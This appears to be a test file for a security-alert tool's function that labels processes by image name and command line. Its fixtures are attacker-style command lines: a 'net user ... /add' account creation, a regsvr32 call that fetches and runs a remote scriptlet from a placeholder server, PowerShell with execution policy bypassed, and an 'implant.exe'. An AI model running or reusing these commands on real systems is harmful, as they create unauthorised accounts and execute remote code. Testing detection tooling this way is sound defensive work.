import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../lib/json.ts';
import { imageOfLabel, labelProcesses } from './process-label.ts';
import type { StoryEvidence } from './types.ts';

const process = (id: number, label: string, processCommandLine?: string): StoryEvidence => {
  const details: JsonObject = processCommandLine === undefined ? {} : { processCommandLine };
  return {
    entity: { id, kind: 'process', label, verdict: 'unknown' },
    embedded: false,
    alertUid: 's1',
    roles: [],
    threats: [],
    details,
  };
};
const labels = (...evidence: readonly StoryEvidence[]): readonly string[] => [
  ...labelProcesses(evidence).values(),
];

describe('labelProcesses', () => {
  it('tells the image first and then what it was called with', () => {
    expect(
      new Set(
        labels(
          process(1, 'net.exe (680)', 'net  user adm1nistrator bob_testing /add'),
          process(2, 'net.exe (690)', '"C:\\Windows\\System32\\net.exe" group /domain'),
          process(3, 'regsvr32.exe (3344)', '.\\regsvr32   /s /n /i:http://server/file.sct scrobj.dll'),
          process(4, 'setup.exe (1)', 'C:\\Program Files\\a tool\\setup.exe -q'),
        ),
      ),
    ).toEqual(
      new Set([
        'net.exe user adm1nistrator bob_testing /add',
        'net.exe group /domain',
        'regsvr32.exe /s /n /i:http://server/file.sct scrobj.dll',
        'setup.exe -q',
      ]),
    );
  });

  it('keeps the process id where nothing else tells two apart', () => {
    expect(
      new Set(
        labels(
          process(1, 'cmd.exe (10)', 'cmd.exe /c whoami'),
          process(2, 'cmd.exe (11)', 'cmd.exe /c whoami'),
          process(3, 'cmd.exe (12)'),
          process(4, 'csrss.exe'),
        ),
      ),
    ).toEqual(new Set(['cmd.exe (10) /c whoami', 'cmd.exe (11) /c whoami', 'cmd.exe (12)', 'csrss.exe']));
  });

  it('leaves out what processes of one image begin with alike', () => {
    const start = 'powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File ';
    expect(
      labels(
        process(1, 'powershell.exe (1)', `${start}C:\\temp\\collect.ps1`),
        process(2, 'powershell.exe (2)', `${start}D:\\temp\\send.ps1`),
      ),
    ).toEqual([
      'powershell.exe -NoProfile …C:\\temp\\collect.ps1',
      'powershell.exe -NoProfile …D:\\temp\\send.ps1',
    ]);
  });

  it('does not take a word among the arguments for the program', () => {
    expect(labels(process(1, 'implant.exe', 'rundll32 "x.dll" /run implant now'))).toEqual([
      'implant.exe rundll32 "x.dll" /run implant now',
    ]);
  });

  it('is total, begins with the image, tells what differs and does not depend on the order', () => {
    const image = fc.constantFrom('cmd.exe', 'a b.exe', '', '(7)', '__proto__');
    const command = fc.option(fc.oneof(fc.string(), fc.constantFrom('cmd /c x', 'cmd /c y')), {
      nil: undefined,
    });
    fc.assert(
      fc.property(fc.array(fc.tuple(image, command), { maxLength: 8 }), (rows) => {
        const evidence = rows.map(([name, line], n) => process(n, `${name} (${n + 1})`, line));
        const told = labelProcesses(evidence);
        expect(told.size).toBe(rows.length);
        for (const [n, [name]] of rows.entries()) expect(told.get(n)?.startsWith(name)).toBe(true);
        expect([...labelProcesses(evidence.toReversed())].sort()).toEqual([...told].sort());
      }),
    );
    expect(imageOfLabel('cmd.exe (680)')).toBe('cmd.exe');
    expect(imageOfLabel('report (final).exe')).toBe('report (final).exe');
  });
});
